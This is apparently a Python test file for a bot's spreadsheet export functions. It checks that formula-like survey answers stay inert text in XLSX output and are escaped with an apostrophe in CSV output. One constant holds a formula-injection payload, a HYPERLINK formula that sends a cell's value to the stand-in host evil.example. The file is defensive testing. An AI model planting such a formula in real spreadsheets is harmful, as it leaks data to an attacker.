"""Survey and feedback exports: what members typed stays text in the staff's spreadsheet."""

import csv
import io

from openpyxl import load_workbook

from bot.reports.exports import csv_bytes, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"bấm")'


def test_typed_formula_stays_text_in_the_xlsx() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes({"s": (["Ý kiến", "Số"], [[ATTACK, 3], ["-1+2", None]])})))
    sheet = book["s"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.endswith(ATTACK)
    assert sheet["A3"].data_type == "s"
    assert sheet["B2"].value == 3  # numbers stay numbers


def test_typed_formula_is_neutralised_in_the_csv() -> None:
    data = csv_bytes(["Ý kiến"], [[ATTACK], ["@SUM(A1)"], ["bình thường"]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    assert [r[0][0] for r in rows[1:3]] == ["'", "'"]
    assert rows[3] == ["bình thường"]
